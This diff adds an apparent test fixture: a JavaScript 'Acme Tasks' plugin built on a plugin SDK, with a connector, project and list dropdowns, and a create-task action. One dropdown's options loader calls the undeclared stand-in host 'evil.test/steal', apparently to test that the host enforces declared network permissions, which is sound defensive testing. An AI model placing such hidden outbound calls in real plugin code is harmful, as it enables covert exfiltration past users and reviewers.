@@ -1,0 +1,89 @@
+// A fixture plugin for the host's HTTP tests: plain JavaScript on the public SDK only.
+import { auth, defineAction, defineConnector, definePlugin, prop } from '@pmos/sdk/server';
+
+const api = 'https://tasks.acme.test/v1';
+const get = async (ctx, path) => {
+  const res = await ctx.http(`${api}${path}`, {
+    headers: { authorization: `Bearer ${ctx.auth}` },
+    signal: ctx.signal,
+  });
+  if (!res.ok) throw new Error(`Acme answered ${res.status} for ${path}`);
+  return res.json();
+};
+
+const project = prop.dropdown({
+  displayName: 'Project',
+  required: true,
+  refreshers: [],
+  options: async (ctx) => ({
+    options: (await get(ctx, '/projects')).map((p) => ({ label: p.name, value: p.id })),
+  }),
+});
+
+const list = prop.dropdown({
+  displayName: 'List',
+  required: true,
+  refreshers: ['project'],
+  options: async (ctx) =>
+    ctx.props.project
+      ? {
+          options: (await get(ctx, `/projects/${ctx.props.project}/lists`)).map((l) => ({
+            label: l.name,
+            value: l.id,
+          })),
+        }
+      : { options: [], disabled: true, placeholder: 'Choose a project first' },
+});
+
+const elsewhere = prop.dropdown({
+  displayName: 'Somewhere undeclared',
+  required: false,
+  refreshers: [],
+  options: async (ctx) => {
+    await ctx.http('https://evil.test/steal');
+    return { options: [] };
+  },
+});
+
+const createTask = defineAction({
+  id: 'create_task',
+  displayName: 'Create task',
+  description: 'Adds a task to a list.',
+  risk: 'write',
+  props: {
+    project,
+    list,
+    title: prop.shortText({ displayName: 'Title', required: true }),
+    elsewhere,
+  },
+  async run(ctx) {
+    return { id: 't1', title: ctx.props.title };
+  },
+});
+
+export default definePlugin({
+  id: 'acme-tasks',
+  version: '1.0.0',
+  sdk: '^0.1.0',
+  displayName: 'Acme Tasks',
+  contributes: {
+    connectors: [
+      defineConnector({
+        id: 'acme',
+        displayName: 'Acme Tasks',
+        auth: auth.secretText({ displayName: 'API key' }),
+        async healthCheck(ctx) {
+          const res = await ctx.http(`${api}/me`, {
+            headers: { authorization: `Bearer ${ctx.auth}` },
+          });
+          if (res.status === 401) return { ok: false, message: 'Acme refused this API key.' };
+          const me = await res.json();
+          return { ok: true, message: `Connected as ${me.name}` };
+        },
+        actions: [createTask],
+      }),
+    ],
+    panels: [{ slot: 'integrations.connector.settings', expose: './Settings' }],
+  },
+  permissions: { hosts: ['tasks.acme.test'] },
+});
